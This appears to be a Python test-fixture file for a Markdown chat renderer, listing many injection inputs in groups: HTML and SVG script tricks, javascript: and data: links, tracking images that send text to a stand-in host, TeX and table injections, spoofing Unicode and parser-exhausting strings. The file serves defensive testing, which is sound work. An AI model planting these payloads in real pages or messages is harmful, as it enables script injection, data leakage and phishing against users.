"""Texts that try to get into the page: as messages, names of files, quotes and addresses.

Each would set `window.broken`, load something from elsewhere, or draw an element that a message may not have. Shown as
a message none may: no dialog, no request to another host, no element but those of Markdown, no violation of the page's
policy.
"""

ELSEWHERE = "https://elsewhere.example"

ELEMENTS = [  # HTML of the text's own
    "<script>window.broken=1</script>",
    "<SCRIPT SRC=https://elsewhere.example/x.js></SCRIPT>",
    "<img src=x onerror=window.broken=1>",
    '<img src="https://elsewhere.example/pixel.png">',
    "<img src=x onerror=&#119;indow.broken=1>",
    "<svg onload=window.broken=1>",
    "<svg><script>window.broken=1</script></svg>",
    "<svg><animate onbegin=window.broken=1 attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=window.broken=1>#x"/></svg>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=window.broken=1>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.broken=1>",
    "<iframe srcdoc='<script>parent.broken=1</script>'></iframe>",
    "<iframe src=javascript:parent.broken=1></iframe>",
    "<object data=javascript:window.broken=1></object>",
    "<embed src=https://elsewhere.example/x.swf>",
    "<base href=https://elsewhere.example/>",
    '<meta http-equiv=refresh content="0;url=https://elsewhere.example/">',
    "<link rel=stylesheet href=https://elsewhere.example/x.css>",
    "<style>@import url(https://elsewhere.example/x.css);*{display:none}</style>",
    '<div style="position:fixed;inset:0;background:url(https://elsewhere.example/x)">over all</div>',
    "<details open ontoggle=window.broken=1>x</details>",
    "<input autofocus onfocus=window.broken=1>",
    "<body onload=window.broken=1>",
    "<video><source onerror=window.broken=1></video>",
    "<audio src=x onerror=window.broken=1>",
    "<template><img src=x onerror=window.broken=1></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.broken=1>'>",
    "<textarea><img title='</textarea><img src=x onerror=window.broken=1>'>",
    "<!--><img src=x onerror=window.broken=1>-->",
    "<![CDATA[<img src=x onerror=window.broken=1>]]>",
    "<form action=https://elsewhere.example><button>Sign in</button></form>",
    "<a href=x id=app name=settings>overwrites names of the page</a>",
]

LINKS = [  # addresses that do more than lead elsewhere
    "[x](javascript:window.broken=1)",
    "[x](JaVaScRiPt:window.broken=1)",
    "[x](java\tscript:window.broken=1)",
    "[x](&#106;avascript:window.broken=1)",
    "[x](javascript&colon;window.broken=1)",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;window.broken=1)",
    "[x](\x01javascript:window.broken=1)",
    "[x](<javascript:window.broken=1>)",
    "[x](javascript://elsewhere.example/%0awindow.broken=1)",
    "[x](vbscript:msgbox)",
    "[x](data:text/html,<script>window.broken=1</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuYnJva2VuPTE8L3NjcmlwdD4=)",
    "[x](blob:https://elsewhere.example/1)",
    "[x](file:///etc/passwd)",
    "[x](/admin/logout/)",
    "[x](//elsewhere.example/)",
    "[x](#key=stolen)",
    "<javascript:window.broken=1>",
    "<data:text/html,x>",
    "[x][y]\n\n[y]: javascript:window.broken=1",
    "[x]\n\n[x]: <data:text/html,<script>window.broken=1</script>>",
    '[x](https://elsewhere.example "\\" onmouseover=window.broken=1 x=\\"")',
    '[x](https://elsewhere.example/"onmouseover="window.broken=1)',
    "[a](https://elsewhere.example/`onmouseover=window.broken=1`)",
    "[<img src=x onerror=window.broken=1>](https://elsewhere.example)",
    'https://elsewhere.example/"onmouseover=window.broken=1//',
    "https://elsewhere.example/<script>window.broken=1</script>",
    "[https://bank.example](https://elsewhere.example/phish)",
    "https://bank.example\u2044x@elsewhere.example",
]

PICTURES = [  # would tell a stranger's server what is said
    "![x](https://elsewhere.example/pixel.png?said=secret)",
    "![x](http://elsewhere.example/pixel.gif)",
    "![x](//elsewhere.example/pixel.png)",
    '![x" onerror="window.broken=1](https://elsewhere.example/a.png)',
    "![x](javascript:window.broken=1)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImJyb2tlbj0xIi8+)",
    "[![x](https://elsewhere.example/a.png)](javascript:window.broken=1)",
    "[![x](https://elsewhere.example/a.png)](https://elsewhere.example/b)",
    "![x][p]\n\n[p]: https://elsewhere.example/a.png",
]

CODE = [  # fences, and what they say their language is
    "```\n<img src=x onerror=window.broken=1>\n```",
    "```html\n<script>window.broken=1</script>\n```",
    '```js"><img src=x onerror=window.broken=1>\nalert(1)\n```',
    "```__proto__\nx\n```",
    "```constructor\nx\n```",
    "````\n```\n</code></pre><img src=x onerror=window.broken=1>\n```\n````",
    "> - 1. ```xml\n>      <svg onload=window.broken=1>\n>      ```",
    "~~~python\n'</pre><script>window.broken=1</script>'",
    "`<img src=x onerror=window.broken=1>`",
    "    <img src=x onerror=window.broken=1>",
]

FORMULAS = [  # what TeX could reach, and how much it could ask for
    r"$\href{javascript:window.broken=1}{x}$",
    r"$\url{javascript:window.broken=1}$",
    r"$\includegraphics{https://elsewhere.example/a.png}$",
    r"$\htmlClass{app}{x}\htmlId{app}{x}\htmlStyle{position:fixed}{x}\htmlData{at=0}{x}$",
    r"$$\def\a{\a\a}\a$$",
    r"$$\rule{100000em}{100000em}$$",
    r"$$\raisebox{100000em}{x}\kern100000em y$$",
    r"$\text{<img src=x onerror=window.broken=1>}$",
    r"$$\color{red;background:url(https://elsewhere.example/x)}{x}$$",
    r"$$\frac{unclosed$$",
    r"\[\left(\begin{matrix}a\\b\\c\\d\\e\\f\end{matrix}\right.\]",
]

TABLES = [
    "| <img src=x onerror=window.broken=1> | b |\n| --- | ---:|\n| [x](javascript:window.broken=1) | `|` |",
    '| a |\n|:-:"onload=window.broken=1|\n| b |',
]

WRITING = [  # letters that mislead or break lines of code about letters
    "\u202egnp.exe\u202c and \u2066\u2067isolates\u2069\u2069",
    "zero\u200bwidth\u200djoiner\ufeff and \u00ad",
    "שלום <b>עולם</b> مرحبا [x](javascript:window.broken=1)",
    "**「強調」**と*「強調」*、~~取消~~【注】",
    "e\u0301" + "\u0301" * 300,
    "\U0001f600\U0001f468\u200d\U0001f469\u200d\U0001f467 \U00020bb7",
    "\u2028\u2029\x0b\x0c\x1b[31m",
    "W" * 3000,
    "漢字" * 2000,
]

PLACEHOLDERS = [  # what the page itself writes into a text before it is read
    "【\ufdd00\ufdd1】 and [x](【\ufdd01\ufdd1】)",
    '<span data-at="0">x</span><span data-math="inline">\\href{javascript:window.broken=1}{x}</span>',
    "【0:0†<img src=x onerror=window.broken=1>】",
    "【1:0†" + "x" * 400,
    "sandbox:/mnt/data/../../etc/passwd [x](sandbox:/mnt/data/x.csv)",
]

LONG = [  # takes other readers of Markdown minutes
    "[" * 20_000,
    "*a **b " * 5_000,
    "> " * 5_000 + "x",
    "- " * 3_000 + "x",
    "`" + "``a" * 5_000,
    "![" * 10_000 + "](x",
    "$a" * 10_000,
    "a|" * 5_000 + "\n" + "-|" * 5_000 + "\n" + "b|" * 5_000,
    "<" * 30_000,
    "https://" * 5_000,
    "【" * 20_000,  # takes browsers themselves a minute to lay out
    "\\[" * 10_000,
    "a@b." * 10_000,
    "\\[\n" * 10_000,
    "\n" * 20_000 + "``",
    "$$" + r"\sqrt" * 1_500 + "$$",
    "$$" + r"\frac{1}{" * 900 + "}" * 900 + "$$",
    "$" + "{" * 4_000 + "}" * 4_000 + "$",
]

TEXTS = [*ELEMENTS, *LINKS, *PICTURES, *CODE, *FORMULAS, *TABLES, *WRITING, *PLACEHOLDERS]

NAMES = [  # of files
    "<img src=x onerror=window.broken=1>.md",
    "【1:0†x】.md",
    "a](javascript:window.broken=1).md",
    "`**_$x$_**`|.csv",
    "\u202egpj.exe",
    "\ufdd00\ufdd1.txt",
    "x" * 250 + ".txt",
    "日本語の資料（最終版）.pdf",
]
